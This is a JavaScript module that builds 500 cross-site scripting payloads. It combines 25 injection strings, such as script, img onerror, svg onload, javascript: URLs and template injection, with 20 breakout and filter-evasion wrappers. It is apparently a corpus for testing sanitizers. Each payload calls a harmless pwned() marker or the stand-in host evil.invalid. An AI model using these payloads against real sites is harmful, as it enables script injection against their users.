// payloads.mjs — five hundred strings that want to run as script where a page shows text. Each calls `pwned()` or asks evil.invalid.
const CORES = [
  '<script>pwned()</script>', '<img src=x onerror=pwned()>', '<svg onload=pwned()>', '<svg><script>pwned()</script></svg>', '<iframe srcdoc="<script>parent.pwned()</script>">',
  '<body onload=pwned()>', '<input autofocus onfocus=pwned()>', '<details open ontoggle=pwned()>', '<video><source onerror=pwned()>', '<audio src=x onerror=pwned()>',
  '<a href=javascript:pwned()>x</a>', '<form action=javascript:pwned()><button>', '<object data=javascript:pwned()>', '<embed src=javascript:pwned()>', '<math><mi xlink:href=javascript:pwned()>x',
  '<template><script>pwned()</script></template>', '<style>@import "https://evil.invalid/x.css"</style>', '<link rel=stylesheet href=https://evil.invalid/x.css>', '<base href=https://evil.invalid/>', '<meta http-equiv=refresh content="0;url=https://evil.invalid/">',
  'javascript:pwned()', 'data:text/html,<script>pwned()</script>', '${pwned()}', '{{constructor.constructor("pwned()")()}}', '<slot onslotchange=pwned()>',
]
const WRAPS = [
  (core) => core,
  (core) => `"${core}`,
  (core) => `'${core}`,
  (core) => `">${core}`,
  (core) => `'>${core}`,
  (core) => `</style>${core}`,
  (core) => `</script>${core}`,
  (core) => `</textarea></title>${core}`,
  (core) => `--><!--${core}`,
  (core) => `]]>${core}`,
  (core) => core.toUpperCase().replaceAll('PWNED', 'pwned'),
  (core) => core.replace('<', '<\u0000'),
  (core) => core.replaceAll(' ', '\t\n'),
  (core) => core.replaceAll(' ', '/'),
  (core) => `\u202e${core}\u2066`,
  (core) => core.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (core) => core.replaceAll('<', '\\u003c'),
  (core) => core.replaceAll('(', '&#40;').replaceAll(')', '&#41;'),
  (core) => `${core}${core}`,
  (core) => `{name}${core}{seconds}`,
]
export const PAYLOADS = WRAPS.flatMap((wrap) => CORES.map(wrap))

export const batches = (size) =>
  Array.from({ length: Math.ceil(PAYLOADS.length / size) }, (_, index) => PAYLOADS.slice(index * size, (index + 1) * size))
